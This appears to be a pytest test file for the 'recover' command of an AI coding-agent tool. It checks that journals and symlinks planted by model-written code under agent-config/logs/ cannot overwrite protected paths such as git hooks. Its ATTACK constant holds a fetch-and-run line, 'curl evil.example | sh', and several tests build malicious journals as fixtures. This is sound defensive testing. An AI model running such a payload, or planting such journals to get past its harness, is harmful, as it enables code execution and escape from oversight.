"""`recover` trusts nothing it did not write. The build runs model-written code, which can plant a
journal or a symlink under agent-config/logs/: a journal naming a path no answer may change is
reported and left alone, and no symlink there is ever followed."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from fakeapi import FakeAPI
from support import Project

RUN = "20260101-000000-000000"
ATTACK = b"#!/bin/sh\ncurl evil.example | sh\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def plant(project: Project, path: str, after: bytes | None, folder: str = RUN) -> Path:
    """A journal that would put ATTACK at `path` (as the original of a file the apply changed to `after`)."""
    journal = project.root / "agent-config" / "logs" / folder / "01-journal"
    journal.mkdir(parents=True)
    (journal / "orig-0").write_bytes(ATTACK)
    entry = {
        "path": path,
        "before": sha(ATTACK),
        "after": None if after is None else sha(after),
        "mode": 0o755,
        "saved": "orig-0",
        "temp": ".code-commit-deadbeef-0.tmp",
    }
    (journal / "manifest.json").write_text(json.dumps({"format": 1, "entries": [entry], "created_dirs": []}))
    return journal


def test_the_planted_journal_would_be_applied_were_its_path_allowed(project: Project, cli) -> None:
    # The control: the same journal on an ordinary tracked file is a real interrupted apply, undone.
    plant(project, "app.txt", after=b"hello\n")
    result = cli("recover")
    assert result.exit_code == 0, result.stderr
    assert (project.root / "app.txt").read_bytes() == ATTACK


@pytest.mark.parametrize("target", [".git/hooks/post-checkout", ".gitignore", "agent-config/config.toml"])
def test_a_journal_naming_a_protected_path_is_refused_and_nothing_is_written(
    project: Project, cli, target: str
) -> None:
    path = project.root / target
    before = path.read_bytes() if path.exists() else None
    journal = plant(project, target, after=before)

    result = cli("recover")

    assert result.exit_code == 8
    assert "was not written by code-commit" in result.stderr and target in result.stderr
    assert (path.read_bytes() if path.exists() else None) == before
    assert (journal / "manifest.json").exists() and (journal / "orig-0").read_bytes() == ATTACK, "left alone"


def test_a_journal_routed_through_a_symlink_is_refused(project: Project, cli, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, project.root / "linked")
    plant(project, "linked/hook.sh", after=None)

    result = cli("recover")

    assert result.exit_code == 8
    assert "linked is a symlink" in result.stderr
    assert list(outside.iterdir()) == []


def test_a_journal_naming_a_protected_pattern_is_refused(project: Project, cli) -> None:
    project.write("agent-config/config.toml", 'protected_patterns = ["deploy/**"]\n')
    project.write("deploy/key.pub", "mine\n")
    project.commit_all()
    plant(project, "deploy/key.pub", after=b"mine\n")

    result = cli("recover")

    assert result.exit_code == 8
    assert "protected pattern 'deploy/**'" in result.stderr
    assert project.read("deploy/key.pub") == "mine\n"


def test_a_run_stops_on_a_planted_journal_before_any_model_call(project: Project, api: FakeAPI, cli) -> None:
    plant(project, ".git/hooks/post-checkout", after=None)

    result = cli()

    assert result.exit_code == 8
    assert api.requests == []
    assert not (project.root / ".git/hooks/post-checkout").exists()


@pytest.mark.parametrize("link", ["run", "journal"])
def test_a_symlinked_folder_under_logs_is_never_followed(project: Project, cli, tmp_path: Path, link: str) -> None:
    # Recovery removes a journal folder left without a manifest: through a symlink, that would be
    # a folder outside the project. With a manifest, it would restore from a journal kept anywhere.
    outside = tmp_path / "outside"
    (outside / "01-journal").mkdir(parents=True)
    (outside / "01-journal" / "precious.txt").write_text("mine\n")
    (outside / "02-journal").mkdir()
    (outside / "02-journal" / "orig-0").write_bytes(ATTACK)
    entry = {"path": "app.txt", "before": sha(ATTACK), "after": sha(b"hello\n"), "mode": 0o644}
    entry |= {"saved": "orig-0", "temp": ".code-commit-deadbeef-0.tmp"}
    (outside / "02-journal" / "manifest.json").write_text(
        json.dumps({"format": 1, "entries": [entry], "created_dirs": []})
    )
    logs = project.root / "agent-config" / "logs"
    logs.mkdir()
    if link == "run":
        os.symlink(outside, logs / RUN)
    else:
        (logs / RUN).mkdir()
        os.symlink(outside / "01-journal", logs / RUN / "01-journal")
        os.symlink(outside / "02-journal", logs / RUN / "02-journal")

    result = cli("recover")

    assert result.exit_code == 0, result.stderr
    assert (outside / "01-journal" / "precious.txt").read_text() == "mine\n"
    assert project.read("app.txt") == "hello\n"
    assert (outside / "02-journal" / "manifest.json").exists()


def test_a_symlinked_logs_folder_is_never_followed(project: Project, api: FakeAPI, cli, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / RUN / "01-journal").mkdir(parents=True)
    (outside / RUN / "01-journal" / "precious.txt").write_text("mine\n")
    os.chmod(outside, 0o755)
    os.symlink(outside, project.root / "agent-config" / "logs")

    recovered = cli("recover")
    run = cli()

    assert recovered.exit_code == 8 and "agent-config/logs is a symlink" in recovered.stderr
    assert run.exit_code == 2 and "agent-config/logs is a symlink" in run.stderr
    assert api.requests == []
    assert (outside / RUN / "01-journal" / "precious.txt").read_text() == "mine\n"
    assert sorted(p.name for p in outside.iterdir()) == [RUN], "no run folder written through it"
    assert os.stat(outside).st_mode & 0o777 == 0o755, "nor its mode changed"
